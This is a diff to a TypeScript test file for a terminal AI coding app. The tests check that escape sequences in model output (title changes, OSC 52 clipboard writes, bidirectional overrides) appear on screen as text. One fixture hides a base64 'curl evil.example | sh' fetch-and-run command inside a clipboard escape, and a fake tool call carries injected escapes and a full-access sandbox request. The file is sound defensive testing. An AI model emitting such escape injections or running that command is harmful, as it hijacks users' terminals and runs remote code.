@@ -4,22 +4,14 @@
  * pane, do not fill the clipboard (tmux's `set-clipboard on` takes OSC 52 into a buffer), and a
  * bidirectional override shows as `<U+202E>`. Every wait polls the screen with a deadline.
  */
-import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { FakeDeepSeek, streamResponse } from '../../test-support/fake-deepseek.js'
+import { describe, expect, it } from 'vitest'
+import { streamResponse } from '../../test-support/fake-deepseek.js'
 import { dshBin, tempHome } from '../../test-support/run-dsh.js'
-import { hasTmux, Terminal } from '../../test-support/tmux.js'
+import { Terminal, terminalTestBed } from '../../test-support/tmux.js'
 import { noTitlePatch } from '../../test-support/patches.js'
 
-const tmux = hasTmux()
-if (!tmux) console.warn('skipping terminal-text app tests: tmux is missing (apt-get install -y tmux)')
-
-let server: FakeDeepSeek
-const terminals: Terminal[] = []
-beforeEach(async () => { server = await FakeDeepSeek.start() })
-afterEach(async () => {
-  for (const terminal of terminals.splice(0)) terminal.close()
-  await server.close()
-})
+const bed = terminalTestBed('terminal-text app tests')
+const tmux = !bed.skip
 
 const usage = { prompt_tokens: 1200, completion_tokens: 40 }
 const patch = noTitlePatch()
@@ -27,8 +19,8 @@ const DSH = `${process.execPath} ${dshBin} --patch ${patch}`
 
 /** A shell in a fresh terminal whose OSC 52 would fill a tmux buffer, and whose title is known. */
 async function openApp(home: string, cwd: string): Promise<Terminal> {
-  const terminal = Terminal.shell({ cwd, env: { DSH_HOME: home, DEEPSEEK_BASE_URL: server.url, DEEPSEEK_API_KEY: 'test-key', DSH_MODEL: undefined, NO_COLOR: undefined, TERM: 'xterm-256color' } })
-  terminals.push(terminal)
+  const terminal = Terminal.shell({ cwd, env: bed.env(home) })
+  bed.keep(terminal)
   terminal.serverOption('set-clipboard', 'on')
   await terminal.waitFor(/^\$$/m, { what: 'the shell prompt' })
   terminal.type(`printf '\\033]2;before\\033\\\\'; clear; ${DSH}`)
@@ -50,7 +42,7 @@ const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'
 describe.skipIf(!tmux)('terminal app: the model\'s escapes stay on screen as text (security #42.6)', () => {
   it('an answer holding OSC 0, OSC 52 and U+202E neither retitles the pane nor sets a buffer, and shows them', async () => {
     const { home, cwd } = tempHome()
-    server.enqueue(streamResponse([
+    bed.server.enqueue(streamResponse([
       { reasoning: 'thinking \x1b]2;pwned-reasoning\x07' },
       // The lone ESC ends one chunk, the rest of its OSC starts the next.
       { text: 'Here it is.\x1b' },
@@ -78,7 +70,7 @@ describe.skipIf(!tmux)('terminal app: the model\'s escapes stay on screen as tex
   it('a tool card (command and output) and the approval box show escapes and overrides as text', async () => {
     const { home, cwd } = tempHome()
     const command = `printf 'o\\342\\200\\256p\\033]0;x\\007\\n' # \x1b]0;pwned-card\x07 \u202E`
-    server.enqueue(
+    bed.server.enqueue(
       streamResponse([{ toolCall: { id: 'b1', name: 'bash', arguments: JSON.stringify({ command, description: 'print', sandbox_permissions: 'danger-full-access', justification: `needs it\x1b]52;c;eA==\x07 \u202Etxt` }) } }, { finish: 'tool_calls', usage }]),
       streamResponse([{ text: 'Ran it.' }, { finish: 'stop', usage }]),
     )
